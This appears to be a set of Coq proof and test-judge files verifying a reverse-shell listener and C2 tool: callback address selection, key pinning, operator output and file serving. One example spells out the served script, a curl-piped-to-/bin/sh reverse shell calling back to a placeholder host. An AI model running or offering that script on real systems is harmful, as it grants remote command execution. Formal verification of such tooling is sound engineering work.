Theorem c02_only_to_attached_shell : forall s o, Inv s -> Tab s ->
  forall w, In w (o_w (snd (step s o))) -> exists sd, cin (fst (step s o)) = Some (wid w, sd).
Proof. exact writes_go_to_cin. Qed.

(** Non-vacuity + promptness in the model: every write is followed by the flush
    its writer kind dictates before the next line; lines entered with no shell
    are held; the failing line is the only one lost. *)
Example c02_example :
  let d := {| sd_dir := DIn; sd_key := KUni [97]; sd_addr := 1; sd_wk := WBoth; sd_wfail := None; sd_ffail := Some 2 |} in
  let ops := [OLine [104]; OAdmit 1 d; OLine [105]; OLine [106]; OLine [107]] in
  map o_w (snd (run ops)) =
    [[]; [WWrite 1 [104; 10]; WFlush 1 true]; [WWrite 1 [105; 10]; WFlush 1 true];
     [WWrite 1 [106; 10]; WFlushFail 1 true]; []] /\
  queue (fst (run ops)) = [[107]].
Proof. vm_compute. split; reflexivity. Qed.
