(** C07 — the script served at /c.  PARTIAL for "yields a working shell": the
    theorems cover which address is chosen, that both curl commands are built
    from the same pin / address / ID, the shape of IDs and the error rule; that
    the script WORKS under /bin/sh + curl is a behavioural test of the check. *)
From CRS Require Import Lib.Bytes Lib.Base36 Model.Script Proofs.CodecProofs Proofs.ScriptProofs.
Open Scope N_scope.

(** The callback address: c2 parameter, else c2 header, else Host in
    IDNA-ASCII form (an unconvertible Host is an error), else the TLS server
    name plus the listen port unless that is 443, else an error.  One theorem
    per branch; together they cover every request. *)
Theorem c07_param_first : forall r, form_c2 r <> [] -> c2url r = C2 (form_c2 r).
Proof. exact c2_param. Qed.
Theorem c07_then_header : forall r, form_c2 r = [] -> hdr_c2 r <> [] -> c2url r = C2 (hdr_c2 r).
Proof. exact c2_header. Qed.
Theorem c07_then_host : forall r h, form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = Some h -> h <> [] -> c2url r = C2 h.
Proof. exact c2_host. Qed.
Theorem c07_bad_host_is_error : forall r, form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = None -> c2url r = C2Err.
Proof. exact c2_host_error. Qed.
Theorem c07_then_sni_443 : forall r, form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = Some [] -> sni r <> [] ->
  lport r = txt "443" -> c2url r = C2 (sni r).
Proof. exact c2_sni_443. Qed.
Theorem c07_then_sni_port : forall r, form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = Some [] -> sni r <> [] ->
  beq (lport r) (txt "443") = false -> existsb (N.eqb 58) (sni r) = false -> c2url r = C2 (sni r ++ [58] ++ lport r).
Proof. exact c2_sni_port. Qed.
Theorem c07_else_error : forall r, form_c2 r = [] -> hdr_c2 r = [] -> host_ascii r = Some [] -> sni r = [] -> c2url r = C2Err.
Proof. exact c2_nothing. Qed.

(** With the default template a determinable address yields the script built
    from (listener pin, that address, the ID) — for every pin, address and ID
    both curl commands carry the same three values. *)
Theorem c07_script_from_same_values : forall fp url id,
  exists a b c, script_for fp url id =
    a ++ curl_cmd fp url ++ txt "/i/" ++ id ++ b ++ curl_cmd fp url ++ txt "/o/" ++ id ++ c.
Proof. exact script_shape. Qed.

Theorem c07_default_template : forall t fp r id url, t = TDefault -> c2url r = C2 url ->
  script_handler t fp r id = SOk (script_for fp url id).
Proof. exact handler_default. Qed.

(** A missing, unparsable or failing template, or an undeterminable address,
    gives an error status — and an error status never comes with a script
    (the response type has no body in that case). *)
Theorem c07_errors_carry_no_script : forall t fp r id code,
  script_handler t fp r id = SStatus code -> code = 500 \/ code = 400.
Proof. exact handler_error_no_body. Qed.
Theorem c07_broken_template_is_error : forall fp r id,
  script_handler TMissing fp r id = SStatus 500 /\ script_handler TUnparsable fp r id = SStatus 500.
Proof. intros. split; reflexivity. Qed.

(** IDs: only [0-9a-z] (URL- and shell-safe), never empty, and two scripts
    share an ID only if the random source returned the same 64-bit number. *)
Theorem c07_id_chars : forall n, Forall id_char (base36 n).
Proof. exact base36_chars. Qed.
Theorem c07_id_nonempty : forall n, base36 n <> [].
Proof. exact base36_nonempty. Qed.
Theorem c07_id_injective : forall a b, a < 2 ^ 64 -> b < 2 ^ 64 -> base36 a = base36 b -> a = b.
Proof. exact base36_injective. Qed.

Example c07_example :
  base36 (2 ^ 64 - 1) = txt "3w5e11264sgsf" /\ base36 0 = txt "0" /\ base36 36 = txt "10" /\
  c2url {| form_c2 := []; hdr_c2 := []; host_ascii := Some []; sni := txt "sni.example"; lport := txt "4444" |}
    = C2 (txt "sni.example:4444") /\
  script_handler TDefault (txt "FP=") {| form_c2 := txt "cb:1"; hdr_c2 := txt "h"; host_ascii := Some (txt "x"); sni := []; lport := txt "1" |} (txt "id7")
    = SOk (txt "#!/bin/sh

curl -Nsk --pinnedpubkey ""sha256//FP="" https://cb:1/i/id7 </dev/null 2>&0 |
/bin/sh 2>&1 |
curl -Nsk --pinnedpubkey ""sha256//FP="" https://cb:1/o/id7 -T- >/dev/null 2>&1
").
Proof. vm_compute. repeat split; reflexivity. Qed.
