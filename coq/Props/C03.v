(** C03 — shell output reaches the operator byte-exact, in order.
    Two models: the broker model forwards every read within its step
    (unbounded operator channel); the fine-grained model of proxyOut
    (Model/ProxyOut.v) has the bounded queues (2 internal slots, the operator
    channel's capacity) and every interleaving - its theorems are at the end. *)
From CRS Require Import Lib.Bytes Model.Broker Proofs.BrokerProofs Props.C01 Model.Terminal Proofs.TerminalProofs.
Open Scope N_scope.

(** One read of the attached output stream: the bytes are displayed exactly
    once, unmodified (zero-length reads display nothing), BEFORE any closure
    notice of the step — also when they come together with the terminal error —
    and are logged exactly once. *)
Theorem c03_read_displayed_once : forall s id data e x,
  get s id = Some x -> st_ph x = PAttached -> sd_dir (st_d x) = DOut ->
  exists tail ltail,
    o_och (snd (step s (OData id data e))) = (match data with [] => [] | _ => [OPlain data] end) ++ tail /\
    (forall d, ~ In (OPlain d) tail) /\
    o_log (snd (step s (OData id data e))) = (match data with [] => [] | _ => [Log (LIO data) id] end) ++ ltail /\
    (forall d i, ~ In (Log (LIO d) i) ltail).
Proof. exact data_step. Qed.

(** Nothing else is ever displayed: output appears only in a read step of the
    stream holding the output slot, and is that read's data. *)
Theorem c03_nothing_else_displayed : forall s o, Tab s ->
  forall d, In (OPlain d) (o_och (snd (step s o))) ->
  exists id e sd, o = OData id d e /\ cout s = Some (id, sd).
Proof. exact plain_comes_from_cout. Qed.

(** The last hop (lib/opshell): however the transport cut the byte sequence
    [s] into reads, what the terminal shows for those reads is [s] (each LF rendered as CR LF
    by x/term for the raw-mode terminal, which loses nothing), and what
    has been shown after any number of them is a prefix of it. *)
Theorem c03_terminal_any_chunking : forall sizes s, shown (cut sizes s) = crlf s /\ uncrlf (shown (cut sizes s)) = s.
Proof. intros sizes s. split; [apply shown_cut | apply shown_cut_exact]. Qed.
Theorem c03_terminal_prefix : forall a b, exists t, shown (a ++ b) = shown a ++ t.
Proof. exact shown_prefix. Qed.

Example c03_example :
  let ops := [OAdmit 1 (mkd DOut (KUni [97]) 1); OData 1 [1; 2] None; OData 1 [] None; OData 1 [3] (Some RUnexpectedEof);
              OData 1 [4] None] in
  map o_och (snd (run ops)) = [[ONote NConnected 1]; [OPlain [1; 2]]; []; [OPlain [3]; ONote NClosed 1]; []].
Proof. vm_compute. reflexivity. Qed.

From CRS Require Import Model.ProxyOut Proofs.ProxyOutProofs.
(** Over the FINE-GRAINED model of proxyOut (Model/ProxyOut.v: reader, queue of
    two, forwarding loop, operator channel of any capacity [cap], terminal
    draining at its own pace, cancellation at any point; a run is any sequence
    of events), tied to the code by the stalled-terminal replay (Judge/ProxyQ.v):
    what has been shown or is waiting for the terminal is always a prefix, chunk
    by chunk, of what the shell sent; when the stream ends by itself while the
    shell is attached, everything read before the end has been handed to the
    operator channel before proxyOut returns (so before the close notice); the
    queues are bounded. *)
Theorem c03_queue_shown_prefix : forall cap reads es,
  let s := prun cap (pinit reads) es in exists rest, readc s = shown s ++ och s ++ rest.
Proof. exact shown_prefix. Qed.
Theorem c03_queue_self_end_complete : forall cap reads es,
  let s := prun cap (pinit reads) es in
  fw s = FEndSelf -> cancelled s = false -> readc s = shown s ++ och s.
Proof. exact self_end_complete. Qed.
Theorem c03_queue_bounded : forall cap reads es,
  let s := prun cap (pinit reads) es in (length (q s) <= 2)%nat /\ (length (och s) <= cap)%nat.
Proof. exact queues_bounded. Qed.
