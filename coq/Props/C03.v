From CRS Require Import Lib.Bytes Model.Broker.
Theorem c03_placeholder : cin init = None.
Proof. reflexivity. Qed.
