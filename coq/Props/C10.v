(** C10 — client-supplied text appears verbatim in operator notices, never as
    a format.  The static half here; the per-run obligation
    [prog_wf GenFmt.sites = true] (GenDep/C10dep.v, regenerated from the source
    on every run by translator/fmtgraph) instantiates it for the code as it is. *)
From CRS Require Import Lib.Bytes Lib.Fmt Proofs.FmtProofs.
Open Scope N_scope.

(** With a constant format (plain verbs, one operand per verb) the output is
    the format's literal text with each operand inserted whole, in order —
    for ALL operand contents: percent signs or verbs inside client text are
    never interpreted, nothing is omitted, no artefact is added. *)
Theorem c10_operands_verbatim : forall ps args, length args = nverbs ps ->
  render ps args = weave (lits_between ps) args.
Proof. exact render_weave. Qed.

Theorem c10_operand_appears : forall ps args, length args = nverbs ps ->
  forall a, In a args -> exists pre post, render ps args = pre ++ a ++ post.
Proof. exact render_contains. Qed.

(** For every call site in a well-formed tree: no format is computed at run
    time, and every format that can reach any printf-style function — directly
    or forwarded through any chain of wrappers — is a constant with plain verbs. *)
Theorem c10_wf_no_computed : forall p, prog_wf p = true -> forall x, In x p -> cls x <> FComputed.
Proof. exact wf_no_computed. Qed.

Theorem c10_wf_formats_constant : forall p, prog_wf p = true ->
  forall f s, reaches p f s -> exists ps, parse_fmt s = Some ps.
Proof. exact wf_reaches. Qed.

(** The shape of the repaired defect (RLogf passing a formatted message as format). *)
Theorem c10_reformat_refuted : exists msg,
  match parse_fmt msg with Some ps => render ps [] <> msg | None => True end.
Proof. exact reformat_refuted. Qed.

Example c10_example :
  parse_fmt (txt "[%s] Rejected %s connection with ID %q, expected %q") <> None /\
  (match parse_fmt (txt "[%s] %s") with
   | Some ps => render ps [txt "10.0.0.1"; txt "File requested: /a%20b?x=%s%d"] = txt "[10.0.0.1] File requested: /a%20b?x=%s%d"
   | None => False end) /\
  parse_fmt (txt "%.20s") = None /\ parse_fmt (txt "100%") = None.
Proof. vm_compute. repeat split; try reflexivity. discriminate. Qed.
