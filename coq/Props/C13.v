(** C13 — simpleshell talks only to the pinned key, and the pin is per connection. *)
From CRS Require Import Lib.Bytes Lib.Sha256 Lib.Base64 Model.Pin Proofs.PinProofs.
Open Scope N_scope.

(** With a fingerprint configured a request is sent IFF the fingerprint is
    well-formed (base64 of exactly 32 bytes, with or without sha256//) and some
    certificate the server presented — at any position — has a
    SubjectPublicKeyInfo whose SHA-256 equals it in all 32 bytes. *)
Theorem c13_accept_iff : forall fp chain trusted, fp <> [] ->
  (go_call fp chain trusted = Sent <->
   exists want, parse_fp fp = Some want /\ exists spki, In spki chain /\ sha256 spki = want).
Proof. exact go_call_sent_iff. Qed.

Theorem c13_any_position : forall want a b spki, sha256 spki = want -> verify want (a ++ spki :: b) = true.
Proof. exact verify_any_position. Qed.

(** A malformed fingerprint is refused outright — whoever the server is. *)
Theorem c13_malformed_refused : forall fp chain trusted, fp <> [] -> parse_fp fp = None ->
  go_call fp chain trusted = RefusedBadFingerprint.
Proof. exact malformed_refused. Qed.

(** The prefix is optional. *)
Theorem c13_prefix_optional : forall x, bprefix prefix_str x = false -> parse_fp (prefix_str ++ x) = parse_fp x.
Proof. exact parse_with_prefix. Qed.

(** The pin a listener advertises for a key is well-formed and denotes that key's hash. *)
Theorem c13_advertised_pin_parses : forall spki,
  parse_fp (b64enc (sha256 spki)) = Some (sha256 spki) \/ bprefix prefix_str (b64enc (sha256 spki)) = true.
Proof. exact parse_own_pin. Qed.

(** Without a fingerprint ordinary validation decides. *)
Theorem c13_no_pin : forall chain trusted, go_call [] chain trusted = if trusted then Sent else RefusedValidation.
Proof. exact no_pin_ordinary_validation. Qed.

(** Per connection: [go_call] has no other argument — the decision is a function
    of this call's fingerprint and this connection's peer (that the real code
    keeps no process-wide state is observed by the harness on
    http.DefaultClient / http.DefaultTransport after every call). *)
Example c13_example :
  parse_fp (txt "sha256//") = None /\ parse_fp (txt "AAAA") = None /\ parse_fp (txt "not base64!") = None /\
  go_call (txt "sha256//ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0=") [txt "x"; txt "abc"] false = Sent /\
  go_call (txt "ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0=") [txt "x"] true = RefusedNoMatch.
Proof. vm_compute. repeat split; reflexivity. Qed.

(** Redirects: a call which is led to further servers (the HTTP client follows a
    302) holds EVERY connection to the pin - the k-th server receives a request
    only if it and every server before it presented the pinned key. *)
Theorem c13_redirects_are_pinned : forall fp want hops k, fp <> [] -> parse_fp fp = Some want ->
  nth_error (go_hops fp hops) k = Some Sent ->
  forall j, (j <= k)%nat -> exists chain trusted, nth_error hops j = Some (chain, trusted) /\ verify want chain = true.
Proof. exact redirects_are_pinned. Qed.
