(** C05 — every advertised fingerprint is the pin of the key really served.
    PARTIAL: the data-flow / formatting half is proved (whatever fingerprint
    string the listener holds is what every one-liner and both curl commands
    carry; base64 is injective; ports); that the held fingerprint is the hash
    of the key the TLS stack presents is CHECKED on every run by recomputing
    SHA-256 and base64 of the presented SubjectPublicKeyInfo inside Coq. *)
From CRS Require Import Lib.Bytes Lib.Base64 Lib.Sha256 Model.Script Proofs.CodecProofs Proofs.ScriptProofs.
Open Scope N_scope.

(** For every fingerprint string without a space (base64 has none) and every
    address and suffix: the pin position of a one-liner holds exactly it. *)
Theorem c05_oneliner_pin : forall fp addr suffix, ~ In 32 fp ->
  pin_of_oneliner (oneliner fp addr suffix) = Some fp.
Proof. exact oneliner_pin. Qed.

(** Both curl commands of every script are built from the same fingerprint. *)
Theorem c05_script_pins : forall fp url id,
  exists a b c, script_for fp url id =
    a ++ curl_cmd fp url ++ txt "/i/" ++ id ++ b ++ curl_cmd fp url ++ txt "/o/" ++ id ++ c.
Proof. exact script_shape. Qed.

(** The encoding is injective and decodable: a different advertised string of
    this shape stands for a different 32-byte value (what curl compares). *)
Theorem c05_base64_roundtrip : forall l, wf_bytes l -> b64dec (b64enc l) = Some l.
Proof. exact b64_roundtrip. Qed.
Theorem c05_other_pin_differs : forall a b, wf_bytes a -> wf_bytes b -> b64enc a = b64enc b -> a = b.
Proof. exact b64enc_injective. Qed.
Theorem c05_pin_alphabet : forall l, wf_bytes l -> forallb b64_alpha (b64enc l) = true.
Proof. exact b64enc_alpha. Qed.

(** A user-supplied callback address with a port is printed verbatim; one without gets the BOUND port. *)
Theorem c05_port_kept : forall a bound, with_port a true bound = a.
Proof. exact with_port_kept. Qed.
Theorem c05_port_bound : forall a bound, existsb (N.eqb 58) a = false -> with_port a false bound = a ++ [58] ++ bound.
Proof. exact with_port_bound. Qed.

(** Non-vacuity: the NIST "abc" vector through the executable SHA-256, and its pin. *)
Example c05_example :
  sha256 (txt "abc") = unhex "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad" /\
  pin_of_spki (txt "abc") = txt "ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0=".
Proof. vm_compute. split; reflexivity. Qed.
