(** Tie of the fine-grained proxyOut model (Model/ProxyOut.v) to the code: the
    harness's stalled-terminal cases (a data / drain / cancel script on the real
    Broker with an operator channel of capacity 1-3, each operation followed by
    quiescence) are replayed on the model with a run-to-quiescence scheduler,
    and the chunks logged and shown so far are compared at the end of every
    block of operations. *)
From CRS Require Import Lib.Bytes Model.ProxyOut Judge.Common.
Open Scope N_scope.

Inductive hop := HData (d : bytes) (e : bool) | HDrain (n : nat) | HCancel | HOther.

(** one sweep over the internal events, in pipeline order; [PReadCancelled] is
    left out: the harness's reader stays blocked in Read when the context ends *)
Definition internal : list pev := [PRead; PSendData; PSendErr; PRecv; PRecvClosed; PForward; PReaderQuit; PSelCancel; PDrop].
Fixpoint quiesce (fuel : nat) (cap : nat) (s : pst) : pst :=
  match fuel with O => s | S f => quiesce f cap (fold_left (pnext cap) internal s) end.
Definition qfuel : nat := 40.

Definition add_read (s : pst) (d : bytes) (e : bool) : pst :=
  {| src := src s ++ [(d, e)]; rd := rd s; q := q s; fw := fw s; och := och s; shown := shown s; logged := logged s;
     cancelled := cancelled s; readc := readc s |}.
(** the terminal takes up to n chunks; a blocked forwarder refills the channel as soon as one is taken *)
Fixpoint drain (n : nat) (cap : nat) (s : pst) : pst :=
  match n with
  | O => s
  | S k => match och s with [] => s | _ => drain k cap (quiesce qfuel cap (pnext cap s PDrain)) end
  end.
Definition hstep (cap : nat) (s : pst) (o : hop) : pst :=
  match o with
  | HData d e => quiesce qfuel cap (add_read s d e)
  | HDrain n => quiesce qfuel cap (drain n cap s)
  | HCancel => quiesce qfuel cap (pnext cap s PCancel)
  | HOther => s
  end.

Record qcase := mkq {
  q_cap : nat;
  q_ops : list hop;
  q_logged : list (list bytes);     (* per operation: 'Shell I/O' output records written during it *)
  q_shown : list (list bytes);      (* per operation: chunks the terminal took during it *)
  q_pend : list nat                 (* per operation: reads offered and not yet taken by the reader goroutine afterwards *)
}.

Fixpoint lbeq (a b : list bytes) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => beq x y && lbeq a' b'
  | _, _ => false
  end.
Definition is_drain (o : hop) : bool := match o with HDrain _ => true | _ => false end.

(** index+1 of the first block end at which model and implementation differ; 0 = none *)
Fixpoint walk (cap : nat) (s : pst) (ops : list hop) (ls ss : list (list bytes)) (ps : list nat) (accl accs : list bytes) (k : N) : N :=
  match ops, ls, ss, ps with
  | o :: ops', l :: ls', sh :: ss', pn :: ps' =>
      let s' := hstep cap s o in
      let accl' := accl ++ l in
      let accs' := accs ++ sh in
      let block_end := match ops' with o2 :: _ => negb (is_drain o && is_drain o2) | [] => true end in
      (* how far the reader has run ahead (the internal queue's capacity, the chunk it holds) shows in the reads still pending;
         not compared once cancelled: the harness's reader stays blocked in Read, and after the wind-down its source is closed *)
      let pend_ok := cancelled s' || Nat.eqb (length (src s')) pn in
      if block_end && negb (lbeq (logged s') accl' && lbeq (shown s') accs' && pend_ok) then k + 1
      else walk cap s' ops' ls' ss' ps' accl' accs' (k + 1)
  | [], [], [], [] => 0
  | _, _, _, _ => k + 1
  end.

Definition judge_q1 (c : qcase) : verdict :=
  let k := walk (q_cap c) (pinit []) (q_ops c) (q_logged c) (q_shown c) (q_pend c) [] [] 0 in
  first_fail [ (k =? 0, v_mismatch (30 + 100 * k)) ].
Definition judge_q (cs : list qcase) : list (N * N * N) := judge_list judge_q1 cs.
(** 0: the channel never filled; 1: some chunk had to wait inside the broker; 2: ... and the stream was cancelled with chunks waiting *)
Definition qtag (c : qcase) : N :=
  let s := fold_left (hstep (q_cap c)) (q_ops c) (pinit []) in
  let waited := existsb (fun p => negb (lbeq (fst p) (snd p)))
                  (combine (q_logged c) (map (fun o => match o with HData d _ => match d with [] => [] | _ => [d] end | _ => [] end) (q_ops c))) in
  if waited then (if cancelled s && negb (Nat.eqb (length (readc s)) (length (logged s))) then 2 else 1) else 0.
Definition judge_q_tags (cs : list qcase) : list N := map qtag cs.
