(** Judge for C03's last hop: what the real Shell wrote to the terminal for a
    sequence of Plain lines against Model/Terminal.shown. *)
From CRS Require Import Lib.Bytes Model.Terminal Judge.Common.
Open Scope N_scope.

Record tcase := mkt { chunks : list bytes; term_out : bytes }.
Definition judge (c : tcase) : verdict :=
  first_fail [ (beq (uncrlf (term_out c)) (concat (chunks c)), v_violation 1);     (* the property itself: byte-exact, in order, however chunked (LF shown as CR LF) *)
               (beq (term_out c) (shown (chunks c)), v_mismatch 11) ].
Definition judge_all (cs : list tcase) : list (N * N * N) := judge_list judge cs.
(** 0: pure ASCII; 1: some byte >= 128; 2: some chunk boundary falls inside a multi-byte UTF-8 sequence (a chunk starts with a continuation byte) *)
Definition tag (c : tcase) : N :=
  if existsb (fun ch => match ch with b :: _ => (128 <=? b) && (b <? 192) | [] => false end) (chunks c) then 2
  else if existsb (fun b => 128 <=? b) (concat (chunks c)) then 1 else 0.
Definition judge_all_tags (cs : list tcase) : list N := map tag cs.
