(** Judge for C07 (the script served at /c). *)
From CRS Require Import Lib.Bytes Lib.Base36 Model.Script Judge.Common.
Open Scope N_scope.

Record case := mk {
  t : tmpl;
  fp : bytes;            (* the listener's fingerprint (checked against the served key by C05) *)
  rv : reqview;
  status : N;
  body : bytes;
  id : bytes             (* the ID found after /i/ in the body, [] if none *)
}.

Definition id_ok (i : bytes) : bool :=
  negb (beq i []) && (length i <=? 13)%nat &&
  forallb (fun c => ((48 <=? c) && (c <=? 57)) || ((97 <=? c) && (c <=? 122))) i.

Definition judge (c : case) : verdict :=
  match script_handler (t c) (fp c) (rv c) (id c) with
  | SOk b =>
      first_fail [
        (status c =? 200, v_violation 1);                        (* a script was due *)
        (beq (body c) b, v_violation 2);                         (* both curls: this pin, the address by precedence, the same ID *)
        (match t c with TDefault => id_ok (id c) | _ => true end, v_violation 3)
      ]
  | SStatus code =>
      first_fail [
        (negb (status c =? 200) && beq (body c) [], v_violation 4);   (* an error status and no script *)
        (status c =? code, v_mismatch 10)
      ]
  end.
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.

(** which source supplied the address: 1 parameter, 2 header, 3 Host, 4 SNI, 5 SNI+port, 0 error; +10 non-default template *)
Definition tag (c : case) : N :=
  (match t c with TDefault => 0 | _ => 10 end) +
  match form_c2 (rv c), hdr_c2 (rv c), host_ascii (rv c), sni (rv c) with
  | _ :: _, _, _, _ => 1
  | [], _ :: _, _, _ => 2
  | [], [], Some (_ :: _), _ => 3
  | [], [], Some [], _ :: _ => if beq (lport (rv c)) (txt "443") then 4 else 5
  | _, _, _, _ => 0
  end.
Definition judge_all_tags (cs : list case) : list N := map tag cs.
