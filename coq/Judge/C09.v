(** Judge for C09 (static files). *)
From CRS Require Import Lib.Bytes Lib.PathClean Model.Files Judge.Common.
Open Scope N_scope.

Record case := mk {
  mode : fmode;
  epath : bytes;            (* escaped path of the request target, as sent *)
  segs : list bytes;        (* its '/'-separated elements, each percent-decoded on its own *)
  dpath : bytes;            (* the same, percent-decoded once (URL.Path) *)
  served : option bytes;    (* the tree file (path relative to the root, leading '/') whose tag is in the response body *)
  canary : bool;            (* the body contains the tag of a file OUTSIDE the tree *)
  single_tag : bool;        (* single-file mode: the body carries the configured file's tag *)
  status : N;
  noticed : bool;           (* a 'file requested' notice was sent to the operator *)
  reached : bool            (* the request was answered by the file handler (content or listing or its 404), as far as visible: noticed *)
}.

Definition judge (c : case) : verdict :=
  first_fail [
    (negb (canary c), v_violation 1);                               (* nothing from outside the tree, ever *)
    (match served c with
     | Some f => match mode c with
                 | FDir => existsb (beq f) (candidates (dpath c))   (* exactly the file the cleaned path names *)
                 | FSingle => true
                 | FNone => false
                 end
     | None => true end, v_violation 2);
    (negb (is_shell_segs (segs c)) ||
     (match served c with None => true | Some _ => false end) && negb (single_tag c) && negb (noticed c), v_violation 3);
                                                                    (* shell endpoints never hand out files *)
    (match mode c with
     | FNone => is_shell_segs (segs c) || (((status c =? 404) || (status c =? 301) || (status c =? 400)) && negb (noticed c))
     | _ => true end, v_violation 4);                               (* unset: 404 for every non-shell path (the mux's own 301-to-the-cleaned-path and the
                                                                       parser's 400 carry no content and are accepted) *)
    (match mode c with
     | FSingle => is_shell_segs (segs c) ||
                  (if mux_redirects (epath c) then negb (status c =? 200) || single_tag c
                   else (status c =? 200) && single_tag c)
     | _ => true end, v_violation 5);                               (* single file: exactly that file, for EVERY non-shell path that reaches
                                                                       the handlers (the mux's own 301 for a non-canonical path excepted) *)
    (match served c with Some _ => noticed c | None => negb (single_tag c) || noticed c end, v_violation 6)
                                                                    (* every file request is reported *)
    ;(match mode c with
     | FDir => true
     | _ => is_shell_segs (segs c) || Bool.eqb (status c =? 301) (mux_redirects (epath c))
     end, v_mismatch 21)                                            (* correspondence of the mux model *)
  ].
Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.

(** 0 nothing served, 1 a file served, 2 shell path, 3 hostile path (decoded differs from escaped or not clean) *)
Definition tag (c : case) : N :=
  if is_shell_segs (segs c) then 2
  else match served c with
       | Some _ => 1
       | None => if beq (clean_rooted (dpath c)) (dpath c) then 0 else 3
       end.
Definition judge_all_tags (cs : list case) : list N := map tag cs.

(** Validation of Lib/PathClean.v against Go's path.Clean (correspondence only). *)
Record ccase := mkc { cp : bytes; cgo : bytes }.
Definition judge_clean1 (c : ccase) : verdict :=
  first_fail [ (beq (clean_rooted (cp c)) (cgo c), v_mismatch 20) ].
Definition judge_clean (cs : list ccase) : list (N * N * N) := judge_list judge_clean1 cs.
Definition judge_clean_tags (cs : list ccase) : list N :=
  map (fun c => if beq (clean_rooted (cp c)) (47 :: cp c) then 0 else 1) cs.
