(** Judge for C02's operator side (lib/opshell, upstream of the broker):
    - Ctrl+I / Tab hands the whole generated source to the line channel as ONE
      line (Shell.insert -> ChanWriter), whatever its size;
    - lines read from the terminal enter the line channel in the order entered,
      the reader waiting while the channel (depth 1024) is full. *)
From CRS Require Import Lib.Bytes Judge.Common.
Open Scope N_scope.

(** the model: what the line channel receives *)
Definition insert_lines (src : bytes) : list bytes := [src].
Definition entered_queue (q : list bytes) (l : bytes) : list bytes := q ++ [l].

Record icase := mki {
  i_paste : bool;           (* false: an insert of [i_n] bytes; true: a paste of [i_n] lines *)
  i_n : N;
  i_items : list N;         (* insert: lengths of the items that arrived on the line channel *)
  i_concat_ok : bool;       (* insert: their concatenation is the source *)
  i_received : N;           (* paste: lines that came out *)
  i_in_order : bool         (* paste: each in its place *)
}.

Definition judge1 (c : icase) : verdict :=
  if i_paste c then
    first_fail [ ((i_received c =? i_n c) && i_in_order c, v_violation 2) ]
  else
    first_fail [ (match i_items c with [k] => (k =? i_n c) && i_concat_ok c | _ => false end, v_violation 1);
                 ((N.of_nat (length (i_items c)) =? N.of_nat (length (insert_lines []))), v_mismatch 11) ].
Definition judge_all (cs : list icase) : list (N * N * N) := judge_list judge1 cs.
Definition judge_all_tags (cs : list icase) : list N :=
  map (fun c => if i_paste c then (if 1024 <? i_n c then 2 else 0) else (if 32768 <? i_n c then 1 else 0)) cs.
