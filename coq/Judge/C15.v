(** Judge for C15: compares the uu model with the implementation's observed
    results and evaluates the property's monitor on the implementation's
    output. *)
From CRS Require Import Lib.Bytes Model.UU Judge.Common.
Open Scope N_scope.

(** What the implementation returned. *)
Inductive ires :=
| IOk (out : bytes)
| IErr (line off cls : N) (p1 p2 : Z)    (* cls: 0 datalen4, 1 lenchar, 2 incorrect, 3 badchar, 9 other *)
| IPanic.

Record case := mk {
  op : N;                 (* 0 = AppendEncode, 1 = AppendDecode *)
  dst : bytes;
  src : bytes;
  res : ires;
  pure : bool;            (* harness: src / existing dst / canaries untouched *)
  maxlen : N;             (* MaxEncodedLen(src) resp. MaxDecodedLen(src) as returned *)
  expect : option bytes   (* decode cases built from an encoding: the original *)
}.

Definition res_eq (m : result) (i : ires) : bool :=
  match m, i with
  | Ok a, IOk b => beq a b
  | Panic, IPanic => true
  | Err l o EDataLen4, IErr l' o' 0 _ _ => (l =? l') && (o =? o')
  | Err l o (ELenChar c), IErr l' o' 1 p1 _ => (l =? l') && (o =? o') && (Z.of_N c =? p1)%Z
  | Err l o (EIncorrect e a), IErr l' o' 2 p1 p2 => (l =? l') && (o =? o') && (e =? p1)%Z && (a =? p2)%Z
  | Err l o (EBadChar c), IErr l' o' 3 p1 _ => (l =? l') && (o =? o') && (Z.of_N c =? p1)%Z
  | _, _ => false
  end.

Definition len (b : bytes) : N := N.of_nat (length b).

(** The error "locates the problem": the line exists, is not blank, and the
    offset lies inside it. *)
Definition located (text : bytes) (line off : N) : bool :=
  match nth_error (split_on 10 text) (N.to_nat line) with
  | Some l => negb (len l =? 0) && (off <? len l)
  | None => false
  end.

Definition judge (c : case) : verdict :=
  if op c =? 0 then
    (* ---- AppendEncode ---- *)
    match res c with
    | IOk out =>
        let e := skipn (length (dst c)) out in
        first_fail [
          (pure c, v_violation 1);                                  (* purity *)
          (bprefix (dst c) out, v_violation 2);                     (* appended to dst *)
          (match decode [] e with Ok r => beq r (src c) | _ => false end, v_violation 3);
                                                                    (* model decoder recovers src *)
          (beq e (perl_pack_u (src c)), v_violation 4);             (* Perl-compatible (spec) *)
          (len e <=? maxlen c, v_violation 5);                      (* MaxEncodedLen bound *)
          (beq out (append_encode (dst c) (src c)), v_mismatch 10); (* correspondence *)
          (maxlen c =? max_encoded_len (len (src c)), v_mismatch 11)
        ]
    | IPanic => v_violation 6
    | IErr _ _ _ _ _ => v_violation 7
    end
  else
    (* ---- AppendDecode ---- *)
    let m := decode (dst c) (src c) in
    first_fail [
      (pure c, v_violation 21);
      (match res c with IPanic => false | _ => true end, v_violation 22);   (* never panics *)
      (match res c with
       | IOk out => bprefix (dst c) out && (len out - len (dst c) <=? maxlen c)
       | _ => true end, v_violation 23);                                     (* appends; bound *)
      (match res c with
       | IErr l o _ _ _ => located (src c) l o
       | _ => true end, v_violation 24);                                     (* error locates *)
      (match expect c, res c with
       | Some x, IOk out => beq out (dst c ++ x)
       | Some _, _ => false
       | None, _ => true end, v_violation 25);                               (* round trip *)
      (res_eq m (res c), v_mismatch 30);
      (maxlen c =? max_decoded_len (len (src c)), v_mismatch 31)
    ].

Definition judge_all (cs : list case) : list (N * N * N) := judge_list judge cs.

(** Branch tag of the model on this case (coverage measurement). *)
Definition tag (c : case) : N :=
  if op c =? 0 then
    (* encode: 0 empty, 1 one partial line, 2 full lines only, 3 mixed *)
